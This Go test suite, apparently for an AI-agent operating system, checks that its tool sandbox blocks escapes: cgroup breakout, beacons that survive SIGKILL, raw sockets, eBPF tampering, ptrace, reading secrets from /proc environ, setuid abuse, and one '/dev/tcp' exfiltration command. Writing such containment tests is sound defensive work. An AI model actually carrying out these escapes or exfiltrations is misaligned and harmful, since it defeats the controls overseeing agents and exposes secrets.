//go:build linux

package attack

import (
	"context"
	"crypto/rand"
	"encoding/hex"
	"errors"
	"io"
	"net"
	"os"
	osexec "os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/agent-os/agentos"
	"github.com/agent-os/agentos/kernel"
	"github.com/agent-os/agentos/kernel/kerneltest"
	"github.com/agent-os/agentos/signals"
)

// Threat: a command tool gets out of its sandbox (its uid, capabilities,
// namespaces, cgroup and eBPF egress allow-list) to send data where policy
// forbids, to outlive its agent's SIGKILL, or to read the kernel's
// secrets. Each test runs an attacker program as an allowed command tool of
// a kernel that enforces egress, and asserts what was promised: no byte
// reaches a destination the allow-list does not name, no process of the
// tool survives SIGKILL, and nothing of the kernel process is read.

// settle is how long a test keeps listening after an attack returned: the
// data of a connection that the program completed arrives well within it.
const sandboxSettle = 300 * time.Millisecond

// run executes the attack tool with mode and arg for a new agent and
// returns what it printed; the agent may have been killed by SIGPOLICY
// meanwhile, which is not an error here.
func runAttack(t *testing.T, k *kerneltest.Kernel, id, mode, arg string) string {
	t.Helper()
	return runAttackAs(t, k.MustSpawn(agentos.AgentID(id)), mode, arg)
}

// runAs is run for an agent that exists.
func runAttackAs(t *testing.T, a *kernel.Agent, mode, arg string) string {
	t.Helper()
	res, err := a.Exec(t.Context(), "attack", map[string]any{"mode": mode, "arg": arg})
	var cr *kernel.CommandResult
	var ce *kernel.CommandError
	switch {
	case err == nil:
		cr = res.(*kernel.CommandResult)
	case errors.As(err, &ce):
		cr = ce.Result
	default:
		t.Logf("attack %s: %v", mode, err)
		return ""
	}
	out := string(cr.Stdout.Data) + string(cr.Stderr.Data)
	t.Logf("attack %s:\n%s", mode, out)
	return out
}

// assertNothingReached asserts that the sink received no connection and
// no byte, now and after settle.
func assertNothingReached(t *testing.T, s *tcpSink) {
	t.Helper()
	time.Sleep(sandboxSettle)
	assert.Zero(t, s.bytes.Load(), "bytes reached a destination the egress allow-list does not name")
	assert.Zero(t, s.conns.Load(), "a connection reached a destination the egress allow-list does not name")
}

// A tool that moves itself into an ancestor cgroup (the cgroup2 root) is
// out of reach of the eBPF programs attached to its agent's cgroup.
func TestSandboxCgroupEscapeThenExfiltrate(t *testing.T) {
	allowed, forbidden := newTCPSink(t), newTCPSink(t)
	k := enforcingKernel(t, allowed.port(), attackTool(buildAttacker(t)))
	runAttack(t, k, "escaper", "escape", forbidden.addr())
	assertNothingReached(t, forbidden)
}

// A tool double-forks a beacon into a session of its own (out of its
// process group) that leaves its cgroup and keeps sending; after
// Kernel.Signal(SIGKILL) returns, nothing may send again.
func TestSandboxSetsidBeaconDiesWithSIGKILL(t *testing.T) {
	allowed := newTCPSink(t)
	path := buildAttacker(t)
	k := enforcingKernel(t, allowed.port(), attackTool(path))
	a := k.MustSpawn("beacon")
	done := make(chan error, 1)
	go func() {
		_, err := a.Exec(context.Background(), "attack", map[string]any{"mode": "daemon", "arg": allowed.addr()})
		done <- err
	}()
	require.Eventually(t, func() bool { return allowed.conns.Load() > 3 }, 20*time.Second, time.Millisecond, "the beacon runs")

	require.NoError(t, k.Signal(context.Background(), a.ID(), signals.SIGKILL, "attack"))
	assert.Empty(t, processesRunningExe(t, path), "a process of the tool survived SIGKILL")
	// Connections made before the kill may still wait in the listener's
	// backlog: let them be accepted, then count. A surviving beacon sends
	// every 10ms in the second window.
	time.Sleep(sandboxSettle)
	killedAt := allowed.conns.Load()
	time.Sleep(sandboxSettle)
	assert.Equal(t, killedAt, allowed.conns.Load(), "the beacon sent after SIGKILL returned")
	select {
	case err := <-done:
		kerneltest.Killed(t, err)
	case <-time.After(10 * time.Second):
		t.Fatal("the tool's Exec did not return after SIGKILL")
	}
}

// unshare -n and a user namespace: a network namespace of its own would
// take the tool's sockets out of the host's stack, not out of its
// cgroup's hooks; either way nothing may reach the forbidden destination.
func TestSandboxUnshareNetwork(t *testing.T) {
	allowed, forbidden := newTCPSink(t), newTCPSink(t)
	k := enforcingKernel(t, allowed.port(), attackTool(buildAttacker(t)))
	runAttack(t, k, "unsharer", "unshare", forbidden.addr())
	assertNothingReached(t, forbidden)
	if _, err := os.Stat("/usr/bin/unshare"); err == nil {
		k2 := enforcingKernel(t, allowed.port(), kernel.WithCommand("attack", kernel.Command{
			Path: "/usr/bin/unshare", Args: []string{"-n", "-r", "--", "/bin/bash", "-c", `echo exfiltrate > /dev/tcp/127.0.0.1/$1`, "bash", "{port}"},
			Params: []kernel.CommandParam{{Name: "port", Required: true}},
		}))
		_, err := k2.MustSpawn("util-linux").Exec(t.Context(), "attack", map[string]any{"port": forbidden.port()})
		t.Logf("unshare -n -r: %v", err)
		assertNothingReached(t, forbidden)
	}
}

// Raw IP and packet (link-layer) sockets send below the socket hooks: no
// datagram of the tool may appear on any interface.
func TestSandboxRawAndPacketSockets(t *testing.T) {
	allowed := newTCPSink(t)
	udp, err := net.ListenUDP("udp4", &net.UDPAddr{IP: net.IPv4(127, 0, 0, 1)})
	require.NoError(t, err)
	defer udp.Close()
	port := udp.LocalAddr().(*net.UDPAddr).Port
	k := enforcingKernel(t, allowed.port(), attackTool(buildAttacker(t)))
	sn := newUDPSniffer(t, port)
	for _, mode := range []string{"raw", "packet"} {
		t.Run(mode, func(t *testing.T) {
			runAttack(t, k, mode, mode, udp.LocalAddr().String())
			time.Sleep(sandboxSettle)
			assert.Zero(t, sn.seen.Load(), "a datagram of the tool went out")
		})
	}
}

// With CAP_BPF or CAP_SYS_ADMIN a tool could load its own programs,
// detach the kernel's from its cgroup or mount a bpffs; then the same
// agent's next tool sends.
func TestSandboxBPF(t *testing.T) {
	allowed, forbidden := newTCPSink(t), newTCPSink(t)
	k := enforcingKernel(t, allowed.port(), attackTool(buildAttacker(t)))
	a := k.MustSpawn("bpf")
	// To the allowed destination: the agent lives on, and so would
	// whatever the attack changed in its cgroup.
	out := runAttackAs(t, a, "bpf", allowed.addr())
	require.Contains(t, out, "send: ok", "the attack ran to its end")
	assert.NotContains(t, out, "bpf load: ok", "the tool loaded an eBPF program")
	assert.NotContains(t, out, "mount bpffs: ok", "the tool mounted a bpffs")
	assert.NotRegexp(t, `bpf detach link [0-9]+ ok`, out, "the tool detached the kernel's programs")
	runAttackAs(t, a, "escape", forbidden.addr())
	assertNothingReached(t, forbidden)
}

// The tool attaches to the kernel's process with ptrace: its memory holds
// every secret the kernel has.
func TestSandboxPtraceKernel(t *testing.T) {
	allowed := newTCPSink(t)
	k := enforcingKernel(t, allowed.port(), attackTool(buildAttacker(t)))
	out := runAttack(t, k, "ptracer", "ptrace", strconv.Itoa(os.Getpid()))
	assert.NotContains(t, out, "attached", "the tool traced the kernel's process")
}

// secretEnv holds a secret in the initial environment of a re-executed
// test process (what /proc/PID/environ shows).
const kernelSecretEnv = "AGENTOS_ATTACK_KERNEL_SECRET"

// The kernel's environment (API keys, tokens) must not be readable from
// /proc/<kernel pid>/environ.
func TestSandboxKernelEnviron(t *testing.T) {
	needRoot(t)
	secret := os.Getenv(kernelSecretEnv)
	if secret == "" {
		// /proc/PID/environ shows the environment a process started
		// with: run this test again in a process that starts with one.
		b := make([]byte, 16)
		_, _ = rand.Read(b)
		cmd := osexec.Command(os.Args[0], "-test.run=^TestSandboxKernelEnviron$", "-test.count=1", "-test.v")
		cmd.Env = append(os.Environ(), kernelSecretEnv+"=secret-"+hex.EncodeToString(b))
		out, err := cmd.CombinedOutput()
		require.NoError(t, err, "%s", out)
		require.Contains(t, string(out), "--- PASS: TestSandboxKernelEnviron", "%s", out)
		return
	}
	allowed := newTCPSink(t)
	k := enforcingKernel(t, allowed.port(), attackTool(buildAttacker(t)))
	env, err := os.ReadFile("/proc/self/environ")
	require.NoError(t, err)
	require.Contains(t, string(env), secret, "the secret is where the attack looks")
	out := runAttack(t, k, "reader", "environ", strconv.Itoa(os.Getpid()))
	assert.NotContains(t, out, secret, "the tool read the kernel's environment")
}

// A set-user-id root binary would give root back to a tool that runs as
// nobody; with it the tool escapes its cgroup and sends.
func TestSandboxSetuidBinary(t *testing.T) {
	allowed, forbidden := newTCPSink(t), newTCPSink(t)
	path := buildAttacker(t)
	suid := filepath.Join(filepath.Dir(path), "suid-attacker")
	b, err := os.ReadFile(path)
	require.NoError(t, err)
	require.NoError(t, os.WriteFile(suid, b, 0o755))
	require.NoError(t, os.Chown(suid, 0, 0))
	require.NoError(t, os.Chmod(suid, 0o4755|os.ModeSetuid))
	k := enforcingKernel(t, allowed.port(), attackTool(suid))
	out := runAttack(t, k, "whoami", "whoami", "")
	assert.NotContains(t, out, "Uid:\t0", "the tool runs with uid 0")
	runAttack(t, k, "suid", "escape", forbidden.addr())
	assertNothingReached(t, forbidden)
}

// No tool runs as root, or with any capability, however it is written.
func TestSandboxNoRootNoCapabilities(t *testing.T) {
	allowed := newTCPSink(t)
	k := enforcingKernel(t, allowed.port(), attackTool(buildAttacker(t)))
	out := runAttack(t, k, "who", "whoami", "")
	for l := range strings.Lines(out) {
		f := strings.Fields(l)
		switch {
		case len(f) < 2:
		case f[0] == "Uid:" || f[0] == "Gid:":
			assert.NotContains(t, f[1:], "0", l)
		case strings.HasPrefix(f[0], "Cap"):
			assert.Equal(t, "0000000000000000", f[1], l)
		}
	}
	assert.Contains(t, out, "CapBnd:", "whoami printed the capability sets")
}

// A host process listening on an abstract UNIX socket (a local proxy, a
// debugging endpoint) would carry the tool's data past every IP hook.
func TestSandboxAbstractUnixSocket(t *testing.T) {
	allowed := newTCPSink(t)
	name := "@agentos-attack-" + strconv.Itoa(os.Getpid())
	ln, err := net.Listen("unix", name)
	require.NoError(t, err)
	var got atomic.Int64
	var wg sync.WaitGroup
	wg.Go(func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			n, _ := io.Copy(io.Discard, c)
			got.Add(n + 1) // a connection counts, even empty
			_ = c.Close()
		}
	})
	defer func() { _ = ln.Close(); wg.Wait() }()
	k := enforcingKernel(t, allowed.port(), attackTool(buildAttacker(t)))
	runAttack(t, k, "unix", "unix", name)
	time.Sleep(sandboxSettle)
	assert.Zero(t, got.Load(), "the tool reached a host process through an abstract UNIX socket")
}
